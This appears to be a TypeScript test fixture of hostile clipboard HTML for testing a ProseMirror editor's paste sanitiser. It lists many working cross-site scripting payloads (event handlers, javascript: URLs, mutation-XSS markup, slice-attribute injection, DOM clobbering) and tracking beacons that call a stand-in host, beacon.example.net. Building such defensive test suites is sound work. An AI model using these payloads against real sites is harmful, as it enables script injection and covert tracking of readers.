/**
 * Hostile clipboards, written for this house after the kinds that are known from editors: each tries to
 * run `window.__pwn = 1`, or to make the page call `beacon`. Nothing in them is data of anybody's.
 */

const RUN = 'window.__pwn=1';
const BEACON = 'https://beacon.example.net/seen';

export interface Payload {
  readonly name: string;
  readonly html: string;
}

const named = (kind: string, list: readonly string[]): Payload[] =>
  list.map((html, at) => ({ name: `${kind} ${at + 1}`, html }));

const EVENTS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onfocusin', 'onanimationstart', 'ontransitionend', 'ontoggle',
  'onbeforeinput', 'onpointerenter', 'onwheel', 'onscroll', 'onbegin', 'onpaste', 'oncopy', 'onbeforetoggle', 'onslotchange',
  'oncontentvisibilityautostatechange', 'onscrollend',
]; // prettier-ignore

/** Every event handler on an image that fails, an element that is focused, and one with nothing but the handler. */
const handlers = EVENTS.flatMap((event) => [
  `<img src=x ${event}="${RUN}">`,
  `<p tabindex=1 autofocus ${event}="${RUN}" style="animation:x 1ms">teks</p>`,
]);

const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', 'java\nscript:', 'java\tscript:', 'java&#10;script:',
  'javascript&colon;', 'data:text/html,<script>', 'data:text/html;base64,', 'vbscript:', 'file:///etc/', 'blob:https://x/', 'feed:javascript:',
  'view-source:javascript:', 'smb://host/', 'ms-word:ofe|u|', 'search-ms:', 'intent://', 'redaksi:',
]; // prettier-ignore
const links = SCHEMES.map((scheme) => `<a href="${scheme}${RUN}">tautan</a>`);

const context = (attrs: string, inner = 'teks') => `<p data-pm-slice='${attrs}'>${inner}</p>`;

/** ProseMirror's own attribute, which names the nodes around a copy and used to be believed. */
const slices = [
  context(`0 0 ["picture",{"id":"x","picture":"javascript:${RUN}"}]`),
  context(`1 1 ["embed",{"id":"x","address":"javascript:${RUN}"}]`),
  context(`1 1 ["relatedLink",{"id":"x","href":"javascript:${RUN}"}]`),
  context('0 0 -1 ["list",{"ordered":{"toString":"x"}}]', '<ul><li>a</li></ul>'),
  context('9 9 ["story",null,"credits",null]'),
  context('1 1 ["__proto__",{"polluted":1}]'),
  context('1 1 -99999999 []'),
  `<div data-pm-slice='1 1 ["factBox",null]' data-change="w-1" data-comment="c-1"><ins data-change="1">a</ins></div>`,
];

/** Markup that a second reading would read otherwise than the first. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<table><tr><td><svg><desc><td><img src=x onerror=${RUN}></svg></table>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
  `<title></title><img src=x onerror=${RUN}></title>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<p>&lt;img src=x onerror=${RUN}&gt;</p>`,
  `<p>&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;</p>`,
  `<a href="https://a.id/&quot; onmouseover=&quot;${RUN}">kutip</a>`,
  `<figure><img src="https://a.id/x.jpg" alt="&quot;><script>${RUN}</script>"><figcaption>&lt;script&gt;${RUN}&lt;/script&gt;</figcaption></figure>`,
  `<select><option><style></select><img src=x onerror=${RUN}></style>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<style><!--</style><script>${RUN}</script>--></style>`,
];

const active = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus formaction="javascript:${RUN}">x</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary>y</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<body onload="${RUN}" onpageshow="${RUN}">x</body>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//"><a href="#x">x</a>`,
  `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${RUN})}">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<p style="background:url(javascript:${RUN});-moz-binding:url(x);behavior:url(x);width:expression(${RUN})">x</p>`,
  `<table background="javascript:${RUN}"><tr><td background="javascript:${RUN}">x</td><td>y</td></tr></table>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<div contenteditable autofocus onfocus="${RUN}">x</div>`,
  `<custom-element is="x" onclick="${RUN}">x</custom-element><story-page></story-page><redaksi-window></redaksi-window>`,
  `<dialog open onclose="${RUN}">x</dialog>`,
];

/** Attributes that other parts of the window read. */
const clobbering = [
  `<form id="room"><input name="attributes"><input name="childNodes"></form>`,
  `<img name="redaksi"><img name="getSelection"><a id="desk"></a>`,
  `<p class="ProseMirror headline picture" data-id="foto" data-picture="x" id="files">x</p>`,
  `<a href="https://a.id/" target="_top" ping="${BEACON}" download rel="opener">x</a>`,
];

export const PAYLOADS: readonly Payload[] = [
  ...named('handler', handlers),
  ...named('link', links),
  ...named('slice', slices),
  ...named('mutation', mutating),
  ...named('active', active),
  ...named('clobbering', clobbering),
];

/** HTML that would make a page ask somebody for something, and tell them that the story is open. */
export const BEACONS: readonly Payload[] = named('beacon', [
  `<img src="${BEACON}/img.jpg" alt="Foto" width=300 height=200>`,
  `<img src="${BEACON}/pixel.gif" width=1 height=1>`,
  `<img srcset="${BEACON}/a.jpg 1x, ${BEACON}/b.jpg 2x">`,
  `<picture><source srcset="${BEACON}/p.webp"><img src="${BEACON}/p.jpg"></picture>`,
  `<img loading=lazy data-src="${BEACON}/lazy.jpg" src="${BEACON}/small.jpg">`,
  `<video poster="${BEACON}/poster.jpg" src="${BEACON}/film.mp4"><track src="${BEACON}/t.vtt"></video>`,
  `<audio src="${BEACON}/a.mp3" autoplay></audio>`,
  `<svg><image href="${BEACON}/svg.png"/><use href="${BEACON}/use.svg#x"/><feImage href="${BEACON}/fe.png"/></svg>`,
  `<p style="background-image:url(${BEACON}/css.png)">x</p>`,
  `<style>@import "${BEACON}/i.css";@font-face{font-family:x;src:url(${BEACON}/f.woff)}p{font-family:x;cursor:url(${BEACON}/c.cur),auto}</style><p>x</p>`,
  `<link rel="stylesheet" href="${BEACON}/s.css"><link rel="prefetch" href="${BEACON}/pre"><link rel="dns-prefetch" href="//beacon.example.net"><link rel="preconnect" href="https://beacon.example.net"><link rel="icon" href="${BEACON}/icon">`,
  `<iframe src="${BEACON}/frame"></iframe><iframe src="https://www.youtube.com/embed/abc"></iframe>`,
  `<object data="${BEACON}/object"></object><embed src="${BEACON}/embed">`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}/refresh">`,
  `<body background="${BEACON}/body.png"><table background="${BEACON}/table.png"><tr><td background="${BEACON}/td.png">x</td><td>y</td></tr></table></body>`,
  `<form action="${BEACON}/form"><input type=image src="${BEACON}/input.png"></form>`,
  `<script src="${BEACON}/script.js"></script><script type="speculationrules">{"prefetch":[{"urls":["${BEACON}/spec"]}]}</script>`,
  `<base href="${BEACON}/"><img src="relative.jpg"><a href="x">x</a>`,
  `<v:imagedata src="${BEACON}/vml.png"/><bgsound src="${BEACON}/b.wav">`,
  `<a href="${BEACON}/link" ping="${BEACON}/ping">tautan</a>`,
  `<math><mglyph src="${BEACON}/glyph.png"/></math>`,
  `<blockquote cite="${BEACON}/cite"><p>x</p></blockquote><q cite="${BEACON}/q">y</q>`,
]);

export const BEACON_HOST = 'beacon.example.net';
